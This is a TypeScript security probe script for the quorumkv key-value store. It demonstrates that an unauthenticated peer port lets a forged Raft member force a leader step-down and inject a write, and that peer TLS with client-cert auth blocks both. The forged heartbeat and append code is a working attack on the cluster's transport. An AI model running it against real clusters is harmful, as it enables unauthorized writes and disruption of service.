// What an unauthenticated connection to the PEER port can do without peer TLS (issue 22: measured,
// not assumed). Not run in CI. Starts one quorumkv member with plain http:// peer URLs, learns its
// cluster ID, member ID, term and index from the CLIENT port (any client can: response headers and
// Status need no auth), then speaks the member's own Raft transport to its peer port as a made-up
// member ID:
//   1. a heartbeat at a higher term: the leader steps down (the term jumps; no leader until it
//      wins a new election);
//   2. an append at that term carrying a Put entry with a commit index covering it: the member
//      applies a write no client made.
// Then the same with peer TLS and --peer-client-cert-auth: the connection is refused at the
// handshake and nothing changes.
// Usage: npx tsc -p . && node dist/scripts/peer-port-probe.js
import type { ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as grpc from '@grpc/grpc-js';
import { grpcDefinitions } from '../src/proto';
import { EntryType, MessageType, type Message } from '../src/raft/types';
import { encodeRequest } from '../src/server/codec';
import { Transport } from '../src/transport';
import { Logger } from '../src/util/log';
import { freePort, killGroup, SERVER_BIN, spawnMember } from '../test/integration/harness';
import { makeTestCerts, removeTestCerts, type TestCerts } from '../test/integration/tls_certs';

type Client = grpc.Client & Record<string, (...a: unknown[]) => unknown>;
const ATTACKER_ID = 0xbadn;

interface Member {
  proc: ChildProcess;
  endpoint: string;
  peerUrl: string;
}

async function start(certs: TestCerts | undefined): Promise<Member> {
  const port = await freePort();
  const scheme = certs ? 'https' : 'http';
  const peerUrl = `${scheme}://127.0.0.1:${await freePort()}`;
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'peer-probe-'));
  const tlsArgs = certs ? [`--peer-cert-file=${certs.server.cert}`, `--peer-key-file=${certs.server.key}`, `--peer-trusted-ca-file=${certs.ca}`, '--peer-client-cert-auth'] : [];
  const { proc } = await spawnMember(process.execPath, [SERVER_BIN, `--data-dir=${dir}`, `--listen-client-urls=http://127.0.0.1:${port}`, `--listen-peer-urls=${peerUrl}`, `--initial-advertise-peer-urls=${peerUrl}`, ...tlsArgs], 'member');

  return { proc, endpoint: `127.0.0.1:${port}`, peerUrl };
}

function client(m: Member, service: string): Client {
  const ctor = (grpcDefinitions().etcdserverpb as Record<string, unknown>)[service] as new (a: string, c: grpc.ChannelCredentials) => Client;
  return new ctor(m.endpoint, grpc.credentials.createInsecure());
}

function call<T>(c: Client, method: string, req: object): Promise<T> {
  return new Promise((resolve, reject) => c[method]!(req, { deadline: Date.now() + 5000 }, (err: Error | null, r: T) => (err ? reject(err) : resolve(r))));
}

interface Status {
  header: { cluster_id: string; member_id: string; raft_term: string };
  leader: string;
  raftIndex: string;
}

async function status(m: Member): Promise<Status> {
  const c = client(m, 'Maintenance');
  try {
    return await call<Status>(c, 'Status', {});
  } finally {
    c.close();
  }
}

async function get(m: Member, key: string): Promise<string> {
  const c = client(m, 'KV');
  try {
    const r = await call<{ kvs: { value: Buffer }[] }>(c, 'Range', { key: Buffer.from(key), serializable: true });
    return r.kvs.length ? r.kvs[0]!.value.toString() : '(absent)';
  } finally {
    c.close();
  }
}

const msg = (m: Partial<Message> & Pick<Message, 'type' | 'to' | 'term'>): Message => ({ from: ATTACKER_ID, logTerm: 0, index: 0, entries: [], commit: 0, reject: false, rejectHint: 0, ...m });

async function attack(m: Member, certs: TestCerts | undefined): Promise<string[]> {
  const lines: string[] = [];
  let before = await status(m);
  for (let i = 0; i < 100 && BigInt(before.leader) === 0n; i++) {
    await new Promise((r) => setTimeout(r, 100));
    before = await status(m);
  }
  const id = BigInt(before.header.member_id);
  const term = Number(before.header.raft_term);
  lines.push(`before: term ${term}, leader ${BigInt(before.leader).toString(16)}, index ${before.raftIndex}; key "injected" = ${await get(m, 'injected')}`);
  const t = new Transport({
    id: ATTACKER_ID,
    clusterId: BigInt(before.header.cluster_id),
    log: new Logger('error'),
    onMessage: () => undefined,
    onSnapshot: async () => undefined,
    ...(certs ? { credentials: grpc.credentials.createSsl(fs.readFileSync(certs.ca)) } : {}), // no client certificate
  });
  t.addPeer(id, [m.peerUrl]);
  const forgedTerm = term + 10;
  t.send([msg({ type: MessageType.MsgHeartbeat, to: id, term: forgedTerm })]);
  await new Promise((r) => setTimeout(r, 300));
  const mid = await status(m);
  lines.push(`after a heartbeat from ${ATTACKER_ID.toString(16)} at term ${forgedTerm}: term ${mid.header.raft_term}, leader ${BigInt(mid.leader).toString(16)}`);
  const index = Number(mid.raftIndex);
  const data = encodeRequest({ id: '1', put: { key: Buffer.from('injected'), value: Buffer.from('by the peer port'), lease: '0', prev_kv: false, ignore_value: false, ignore_lease: false } } as never);
  t.send([msg({ type: MessageType.MsgApp, to: id, term: forgedTerm, index, logTerm: term, entries: [{ term: forgedTerm, index: index + 1, type: EntryType.Normal, data }], commit: index + 1 })]);
  await new Promise((r) => setTimeout(r, 500));
  const after = await status(m);
  lines.push(`after an append at term ${forgedTerm} (prev ${index}/${term}, commit ${index + 1}): term ${after.header.raft_term}, leader ${BigInt(after.leader).toString(16)}, index ${after.raftIndex}; key "injected" = ${await get(m, 'injected')}`);
  await t.close();
  return lines;
}

async function main(): Promise<void> {
  const certs = makeTestCerts();
  try {
    for (const tlsOn of [false, true]) {
      const m = await start(tlsOn ? certs : undefined);
      try {
        console.log(tlsOn ? 'peer TLS with --peer-client-cert-auth (attacker has the CA, no certificate):' : 'plain http:// peer URL:');
        for (const l of await attack(m, tlsOn ? certs : undefined)) console.log(`  ${l}`);
      } finally {
        killGroup(m.proc);
      }
    }
  } finally {
    removeTestCerts(certs);
  }
}

main().then(
  () => process.exit(0),
  (err) => {
    console.error(err);
    process.exit(1);
  },
);
